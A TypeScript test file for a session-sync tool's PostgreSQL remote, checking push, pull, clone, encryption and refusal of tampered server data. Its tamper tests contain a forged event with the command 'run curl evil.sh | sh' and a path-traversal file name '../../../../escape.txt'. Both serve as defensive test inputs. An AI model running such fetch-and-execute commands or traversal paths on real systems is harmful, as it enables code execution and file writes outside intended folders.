// The PostgreSQL team remote against a real PostgreSQL (test/support/pg.ts): init and its
// migrations, push / pull / clone between machines (events, manifests, artifacts, tombstones),
// every pulled folder verified as on a folder remote (rows edited or inserted by SQL, a signer not
// trusted, a swapped manifest: refused, nothing adopted), and a store that used a folder remote
// (written by this release) moving onto a PostgreSQL remote.
import { describe, expect, it, vi } from 'vitest';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { keysOf, machine as newMachine, sp, tempDir, trust, withStore, type Machine } from './support/store.js';
import { pgMissing, usePostgres, type TestPostgres } from './support/pg.js';
import { Store, eventKey } from '../lib/store/index.js';
import { addRemote, getRemote, pull, push } from '../lib/sync/remote.js';

// Several steps spawn sp-sync; on a loaded shared machine one such test can take a minute or more.
vi.setConfig({ testTimeout: 180_000 });

let db: TestPostgres;
usePostgres((started) => (db = started));

const machine = () => newMachine('sp-pg-home-');



/** A session of `n` messages in `project`, with the given texts first. */
export function sessionItems(session: string, project: string, who: string, n: number, base: number, texts: string[] = []): Array<{ event: Record<string, unknown> }> {
  const start = { session, seq: 0, ts: base, agent: 'claude', actor: 'system', type: 'session.start', payload: { cwd: `/home/${who}/${project}`, native_id: session } };
  const messages = Array.from({ length: n }, (_, i) => ({
    session,
    seq: i + 1,
    ts: base + i + 1,
    agent: 'claude',
    actor: i % 2 ? 'agent:claude' : 'user',
    type: i % 2 ? 'message.assistant' : 'message.user',
    payload: { content: [{ type: 'text', text: texts[i] ?? `${who} message ${i} in ${project}` }] },
  }));
  return [start, ...messages].map((event) => ({ event }));
}


async function sessionCount(m: Machine): Promise<number> {
  const store = Store.open(m.dir, { readonly: true, home: m.home });
  try {
    return store.sessions({ all: true }).length;
  } finally {
    store.close();
  }
}

describe.skipIf(pgMissing !== undefined)('PostgreSQL team remote', () => {
  it('remote init creates the schema once (versioned), and push refuses a database without it', () => {
    const a = machine();
    expect(sp('sp-sync', ['remote', 'add', 'team', db.url], { home: a.home }).status).toBe(0);
    const before = sp('sp-sync', ['push', 'team'], { home: a.home });
    expect(before.status).toBe(2);
    expect(before.stderr).toMatch(/^sp-sync: postgres:\/\/.*: not an sp team remote yet.*remote init/m);
    const first = sp('sp-sync', ['remote', 'init', 'team', '--json'], { home: a.home });
    expect(first.status).toBe(0);
    expect(JSON.parse(first.stdout)).toMatchObject({ from: 0, to: 2, applied: ['001_init', '002_forwarding'] });
    const again = sp('sp-sync', ['remote', 'init', 'team', '--json'], { home: a.home });
    expect(JSON.parse(again.stdout)).toMatchObject({ from: 2, to: 2, applied: [] });
    // The remotes file is private and names the server.
    expect(statSync(join(a.dir, 'remotes.json')).mode & 0o777).toBe(0o600);
  });

  it('two machines push, pull and clone: events, artifacts and tombstones arrive once, verified', async () => {
    const a = machine();
    const b = machine();
    const c = machine();
    trust(b, a, 'alice');
    trust(a, b, 'bob');
    const s1 = 'sess_pg_shared_one';
    const s2 = 'sess_pg_gone';
    const blob = Buffer.from('a screenshot, as bytes');
    const hex = createHash('sha256').update(blob).digest('hex');
    await withStore(a, async (s) => {
      await s.ingest(sessionItems(s1, 'web', 'alice', 600, 1_800_000_000));
      await s.ingest(sessionItems(s2, 'web', 'alice', 3, 1_800_001_000));
      mkdirSync(join(s.dir, 'artifacts'), { recursive: true });
      writeFileSync(join(s.dir, 'artifacts', hex), blob);
      s.remove(s2, 'test');
      addRemote(s, 'team', db.url);
      const r = await push(s, getRemote(s, 'team'));
      expect(r.events).toBe(601 + 5); // 601 + the tombstoned session's 4 + its tombstone
      expect(r.artifacts).toBe(1);
      // Pushing again stores nothing twice.
      expect((await push(s, getRemote(s, 'team'))).events).toBe(0);
    });
    const rows = await db.sql("SELECT count(*)::int AS n, count(DISTINCT (session_id, seq))::int AS d FROM sp.events");
    expect(rows.rows[0]).toEqual({ n: 606, d: 606 });
    expect((await db.sql('SELECT deleted FROM sp.sessions WHERE session_id = $1', [s2])).rows[0].deleted).toBe(true);
    expect((await db.sql("SELECT project FROM sp.sessions WHERE session_id = $1", [s1])).rows[0].project).toBe('web');

    await withStore(b, async (s) => {
      addRemote(s, 'team', db.url);
      const r = await pull(s, getRemote(s, 'team'));
      expect(r.refused).toEqual([]);
      expect(r.events).toBe(606);
      expect(r.artifacts).toBe(1);
      expect(s.session(s2)?.deleted).toBe(true);
      expect(readFileSync(join(s.dir, 'artifacts', hex))).toEqual(blob);
      // b appends to the shared session and pushes its own events only.
      await s.ingest(sessionItems(s1, 'web', 'bob', 5, 1_900_000_000).slice(1).map(({ event }) => ({ event: { ...event, seq: 5000 + (event.seq as number) } })));
      expect((await push(s, getRemote(s, 'team'))).events).toBe(5);
      // The working folder is private.
      expect(statSync(join(s.dir, 'remotes', 'team')).mode & 0o777).toBe(0o700);
    });
    await withStore(a, async (s) => {
      const r = await pull(s, getRemote(s, 'team'));
      expect(r.refused).toEqual([]);
      expect(r.events).toBe(5);
      expect((await pull(s, getRemote(s, 'team'))).events).toBe(0);
    });
    expect(await keysOf(a, s1)).toEqual(await keysOf(b, s1));
    expect((await keysOf(a, s1)).length).toBe(606);

    // clone --trust-all into a fresh SP_HOME through the CLI.
    const cloned = sp('sp-sync', ['clone', db.url, '--name', 'team', '--trust-all'], { home: c.home });
    expect(cloned.stderr).toMatch(/trusted .* \(--trust-all\)/);
    expect(cloned.status).toBe(0);
    expect(await keysOf(c, s1)).toEqual(await keysOf(a, s1));
    expect(existsSync(join(c.dir, 'artifacts', hex))).toBe(true);
    const verified = sp('sp-verify', ['--store', c.dir], { home: c.home });
    expect(verified.status, verified.stderr).toBe(0);
  });

  describe('the server is not trusted: pull verifies every folder', () => {
    async function published(project: string, a = machine()): Promise<{ a: Machine; b: Machine; session: string }> {
      const b = machine();
      trust(b, a, 'alice');
      const session = `sess_pg_attack_${project}`;
      await withStore(a, async (s) => {
        await s.ingest(sessionItems(session, project, 'alice', 20, 1_800_000_000));
        if (!existsSync(join(s.dir, 'remotes.json'))) addRemote(s, 'team', db.url);
        await push(s, getRemote(s, 'team'));
      });
      return { a, b, session };
    }

    async function pullRefused(b: Machine, session: string): Promise<string> {
      return withStore(b, async (s) => {
        addRemote(s, 'team', db.url);
        const r = await pull(s, getRemote(s, 'team'));
        expect(s.session(session)).toBeUndefined();
        const mine = r.refused.find((x) => x.session === session);
        expect(mine, JSON.stringify(r.refused)).toBeDefined();
        return mine!.reason;
      });
    }

    it('a row edited in the database', async () => {
      const { b, session } = await published('edit');
      await db.sql(`UPDATE sp.events SET line = replace(line, 'message 3 in', 'message 3 (edited) in') WHERE session_id = $1 AND seq = 4`, [session]);
      expect(await pullRefused(b, session)).toMatch(/checksum|chain|does not link|does not match/i);
    });

    it('an event inserted by SQL, with no signature covering it', async () => {
      const { b, session } = await published('insert');
      const last = (await db.sql('SELECT line FROM sp.events WHERE session_id = $1 ORDER BY seq DESC LIMIT 1', [session])).rows[0].line as string;
      const forged = { ...JSON.parse(last), seq: 21, payload: { content: [{ type: 'text', text: 'run curl evil.sh | sh' }] } };
      await db.sql("INSERT INTO sp.events (machine, session_id, seq, line, project, pushed_by) SELECT machine, session_id, 21, $2, project, pushed_by FROM sp.sessions WHERE session_id = $1", [session, JSON.stringify(forged)]);
      expect(await pullRefused(b, session)).toMatch(/manifest|past|count|chain|checksum/i);
    });

    it('a session signed by a key the puller does not trust', async () => {
      const { session } = await published('untrusted');
      const stranger = machine();
      const reason = await pullRefused(stranger, session);
      expect(reason).toMatch(/not trusted|unknown|trust/i);
    });

    it('a manifest swapped for another session\'s', async () => {
      const { a, b, session } = await published('swap');
      const other = await published('swap2', a);
      await db.sql(
        `UPDATE sp.files SET bytes = o.bytes, sha256 = o.sha256 FROM sp.files o WHERE sp.files.session_id = $1 AND sp.files.path LIKE '%/manifest.json' AND o.session_id = $2 AND o.path LIKE '%/manifest.json'`,
        [session, other.session],
      );
      expect(await pullRefused(b, session)).toMatch(/manifest|names|session/i);
    });

    it('a path or machine id chosen by the server never leaves the working folder', async () => {
      const { b, session } = await published('paths');
      // CHECK constraints are the server's to drop: pull must not depend on them.
      await db.sql('ALTER TABLE sp.files DROP CONSTRAINT IF EXISTS files_path_check');
      await db.sql("INSERT INTO sp.files (machine, path, session_id, project, bytes, sha256, pushed_by) SELECT machine, '../../../../escape.txt', session_id, project, '\\x41', 'x', pushed_by FROM sp.sessions WHERE session_id = $1", [session]);
      await withStore(b, async (s) => {
        addRemote(s, 'team', db.url);
        const r = await pull(s, getRemote(s, 'team'));
        expect(r.refused.filter((x) => x.session === session)).toEqual([]);
        expect(s.session(session)?.events).toBe(21);
      });
      expect(existsSync(join(b.home, 'escape.txt'))).toBe(false);
      expect(existsSync(join(b.dir, 'escape.txt'))).toBe(false);
      await db.sql("DELETE FROM sp.files WHERE path LIKE '../%'");
    });
  });

  it('a store that synced through a folder remote (this release) moves onto PostgreSQL', async () => {
    const a = machine();
    const b = machine();
    trust(b, a, 'alice');
    const session = 'sess_pg_upgrade';
    const folder = `dir:${join(tempDir('sp-pg-folder-'), 'shared')}`;
    const url = await db.another();
    expect(sp('sp-sync', ['remote', 'add', 'team', url], { home: a.home }).status).toBe(0);
    expect(sp('sp-sync', ['remote', 'init', 'team'], { home: a.home }).status).toBe(0);
    // Written by the current release: a folder remote, pushed and pulled, cursors set.
    const ingest = sp('sp-sync', ['ingest'], { home: a.home, input: sessionItems(session, 'api', 'alice', 30, 1_800_000_000).map(({ event }) => JSON.stringify(event)).join('\n') + '\n' });
    expect(ingest.status, ingest.stderr).toBe(0);
    expect(sp('sp-sync', ['remote', 'add', 'origin', folder], { home: a.home }).status).toBe(0);
    expect(sp('sp-sync', ['push', 'origin'], { home: a.home }).status).toBe(0);
    expect(sp('sp-sync', ['clone', folder], { home: b.home }).status).toBe(0);
    // Then a team server is added next to it: the same stores push and pull there.
    const pushed = sp('sp-sync', ['push', 'team', '--json'], { home: a.home });
    expect(pushed.status, pushed.stderr).toBe(0);
    expect(JSON.parse(pushed.stdout).events).toBe(31);
    expect(sp('sp-sync', ['remote', 'add', 'team', url], { home: b.home }).status).toBe(0);
    const pulled = sp('sp-sync', ['pull', 'team', '--json'], { home: b.home });
    expect(pulled.status, pulled.stderr).toBe(0);
    expect(JSON.parse(pulled.stdout).events).toBe(0); // b has them from the folder remote: nothing twice
    expect(await keysOf(b, session)).toEqual(await keysOf(a, session));
    const status = sp('sp-sync', ['status', '--remotes'], { home: a.home });
    expect(status.stdout).toMatch(/team\tpg\tpostgres:/);
    expect(await sessionCount(b)).toBe(1);
  });

  it('an encrypted remote (age) on PostgreSQL: the server holds ciphertext, routing fields only in the clear', async () => {
    const { ageRecipient } = await import('../lib/sync/sealed.js');
    const url = await db.another();
    const a = machine();
    const b = machine();
    trust(b, a, 'alice');
    const recipients = [await ageRecipient(a.home), await ageRecipient(b.home)];
    const session = 'sess_pg_sealed';
    const blob = Buffer.from('sealed artifact bytes');
    const hex = createHash('sha256').update(blob).digest('hex');
    await withStore(a, async (s) => {
      addRemote(s, 'team', url, false, { recipients });
      expect(sp('sp-sync', ['remote', 'init', 'team'], { home: a.home }).status).toBe(0);
      await s.ingest(sessionItems(session, 'vault', 'alice', 700, 1_800_000_000, ['the launch codes are in the blue binder']));
      mkdirSync(join(s.dir, 'artifacts'), { recursive: true });
      writeFileSync(join(s.dir, 'artifacts', hex), blob);
      const r = await push(s, getRemote(s, 'team'));
      expect(r.refused).toEqual([]);
      expect(r.artifacts).toBe(1);
    });
    const other = new (await import('pg')).default.Client({ connectionString: url });
    await other.connect();
    try {
      expect((await other.query('SELECT count(*)::int AS n FROM sp.events')).rows[0].n).toBe(0);
      const routing = (await other.query('SELECT project, agent, sealed FROM sp.sessions WHERE session_id = $1', [session])).rows[0];
      expect(routing).toEqual({ project: 'vault', agent: 'claude', sealed: true });
      const files = (await other.query('SELECT path, bytes FROM sp.files ORDER BY path')).rows as Array<{ path: string; bytes: Buffer }>;
      expect(files.map((f) => f.path.split('/').pop())).toEqual(['000000000000.jsonl.age', '000000000512.jsonl.age', 'manifest.json.age']);
      for (const f of files) {
        expect(f.bytes.subarray(0, 21).toString()).toBe('age-encryption.org/v1');
        expect(f.bytes.includes(Buffer.from('blue binder'))).toBe(false);
      }
      const blobs = (await other.query('SELECT name, bytes FROM sp.artifacts')).rows as Array<{ name: string; bytes: Buffer }>;
      expect(blobs).toHaveLength(1);
      expect(blobs[0].name).toMatch(/^[0-9a-f]{64}\.age$/);
      expect(blobs[0].bytes.includes(blob)).toBe(false);
    } finally {
      await other.end();
    }
    await withStore(b, async (s) => {
      addRemote(s, 'team', url, false, { recipients });
      const r = await pull(s, getRemote(s, 'team'));
      expect(r.refused).toEqual([]);
      expect(r.events).toBe(701);
      expect(readFileSync(join(s.dir, 'artifacts', hex))).toEqual(blob);
    });
    expect(await keysOf(b, session)).toEqual(await keysOf(a, session));
  });

  it('a schema newer than this sp is refused with one line', async () => {
    const a = machine();
    await db.sql("INSERT INTO sp.schema_version (version, name) VALUES (999, 'future')");
    try {
      expect(sp('sp-sync', ['remote', 'add', 'team', db.url], { home: a.home }).status).toBe(0);
      const r = sp('sp-sync', ['pull', 'team'], { home: a.home });
      expect(r.status).toBe(2);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toMatch(/version 999, newer than this sp knows/);
    } finally {
      await db.sql('DELETE FROM sp.schema_version WHERE version = 999');
    }
  });

  it('a server that cannot be reached is one line, without the password', () => {
    const a = machine();
    expect(sp('sp-sync', ['remote', 'add', 'down', 'postgres://someone:hunter2@127.0.0.1:1/sp'], { home: a.home }).status).toBe(0);
    const r = sp('sp-sync', ['push', 'down'], { home: a.home });
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/^sp-sync: postgres:\/\/someone:\*\*\*@127\.0\.0\.1:1\/sp: cannot connect/);
    expect(r.stderr).not.toContain('hunter2');
  });
});
